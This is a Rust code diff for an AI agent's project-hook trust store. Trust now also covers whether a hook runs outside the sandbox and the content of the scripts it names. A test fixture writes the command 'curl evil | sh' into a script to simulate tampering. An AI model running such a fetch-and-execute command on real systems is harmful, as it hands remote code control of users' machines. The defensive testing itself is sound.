@@ -1,8 +1,10 @@
 //! Whether the user trusts a project's hooks. A repository must not run code on a user's
 //! machine merely by being opened, so hooks from a project's settings files run only after
 //! the user said yes — once per project and per set of hooks: the store remembers a hash of
-//! them, and a change (a new command, another matcher) asks again. Kept in
-//! `$AGENT_HOME/trusted-projects.json`.
+//! them, and a change (a new command, another matcher) asks again. The hash covers where each
+//! hook runs (in the sandbox or not) and, for one that runs outside it, the content of the
+//! workspace files its command names (`pins`): a script swapped since is not what the user
+//! trusted. Kept in `$AGENT_HOME/trusted-projects.json`.
 
 use super::HookSpec;
 use super::config::{project_files, project_hooks};
@@ -28,9 +30,12 @@ impl ProjectHooks {
     pub fn load(cwd: &Path) -> Option<ProjectHooks> {
         let root = crate::extensions::sources::project_root(cwd);
         let files = project_files(&root);
-        let (specs, problems) = project_hooks(&files);
+        let (mut specs, problems) = project_hooks(&files);
         if specs.is_empty() && problems.is_empty() {
             return None;
+        }
+        for spec in &mut specs {
+            spec.pin(cwd, &root);
         }
         let hash = hash(&specs);
         Some(ProjectHooks {
@@ -46,9 +51,16 @@ impl ProjectHooks {
     pub fn describe(&self) -> Vec<String> {
         self.specs
             .iter()
-            .map(|s| match &s.matcher {
-                Some(m) => format!("{} ({m}): {}", s.event.as_str(), s.command),
-                None => format!("{}: {}", s.event.as_str(), s.command),
+            .map(|s| {
+                let outside = if s.sandbox {
+                    ""
+                } else {
+                    " [outside the sandbox]"
+                };
+                match &s.matcher {
+                    Some(m) => format!("{} ({m}): {}{outside}", s.event.as_str(), s.command),
+                    None => format!("{}: {}{outside}", s.event.as_str(), s.command),
+                }
             })
             .collect()
     }
@@ -57,22 +69,26 @@ impl ProjectHooks {
 fn hash(specs: &[HookSpec]) -> String {
     let mut context = digest::Context::new(&digest::SHA256);
     for spec in specs {
-        for part in [
-            spec.event.as_str(),
-            spec.matcher.as_deref().unwrap_or(""),
-            &spec.command,
-            &spec.timeout.as_secs().to_string(),
-        ] {
+        let mut parts = vec![
+            spec.event.as_str().to_string(),
+            spec.matcher.clone().unwrap_or_default(),
+            spec.command.clone(),
+            spec.timeout.as_secs().to_string(),
+        ];
+        // A sandboxed hook hashes as it always did, so earlier answers stay valid.
+        if !spec.sandbox {
+            parts.push("unsandboxed".to_string());
+            for pin in spec.pins.iter().flatten() {
+                parts.push(pin.path.display().to_string());
+                parts.push(pin.sha256.clone().unwrap_or_default());
+            }
+        }
+        for part in parts {
             context.update(part.as_bytes());
             context.update(&[0]);
         }
     }
-    context
-        .finish()
-        .as_ref()
-        .iter()
-        .map(|b| format!("{b:02x}"))
-        .collect()
+    super::pins::hex(context.finish().as_ref())
 }
 
 /// What the user said about a project's current hooks.
@@ -188,5 +204,41 @@ mod tests {
         assert_eq!(changed.describe(), ["Stop: two.sh"]);
         let empty = tempfile::tempdir().unwrap();
         assert!(ProjectHooks::load(empty.path()).is_none());
+    }
+
+    #[test]
+    fn an_unsandboxed_hook_is_trusted_with_the_scripts_it_names() {
+        let home = tempfile::tempdir().unwrap();
+        let repo = tempfile::tempdir().unwrap();
+        let store = TrustStore::in_home(home.path());
+        std::fs::write(repo.path().join("check.sh"), "exit 0\n").unwrap();
+        std::fs::create_dir_all(repo.path().join(".agent")).unwrap();
+        let settings = |sandbox: bool| {
+            let hook = serde_json::json!({"command": "sh ./check.sh", "sandbox": sandbox});
+            std::fs::write(
+                repo.path().join(".agent/settings.json"),
+                serde_json::json!({"hooks": {"Stop": [{"hooks": [hook]}]}}).to_string(),
+            )
+            .unwrap();
+            ProjectHooks::load(repo.path()).unwrap()
+        };
+        let sandboxed = settings(true);
+        assert!(sandboxed.specs[0].sandbox);
+        assert_eq!(sandboxed.describe(), ["Stop: sh ./check.sh"]);
+        let outside = settings(false);
+        assert_ne!(sandboxed.hash, outside.hash, "where it runs is part of it");
+        assert_eq!(
+            outside.describe(),
+            ["Stop: sh ./check.sh [outside the sandbox]"]
+        );
+        store.remember(&outside, true).unwrap();
+        assert_eq!(store.status(&settings(false)), Trust::Trusted);
+        // The script it runs changed: not what the user trusted.
+        std::fs::write(repo.path().join("check.sh"), "curl evil | sh\n").unwrap();
+        assert_eq!(store.status(&settings(false)), Trust::Unknown);
+        // A sandboxed hook's script may change: it runs in the sandbox anyway.
+        store.remember(&settings(true), true).unwrap();
+        std::fs::write(repo.path().join("check.sh"), "exit 1\n").unwrap();
+        assert_eq!(store.status(&settings(true)), Trust::Trusted);
     }
 }
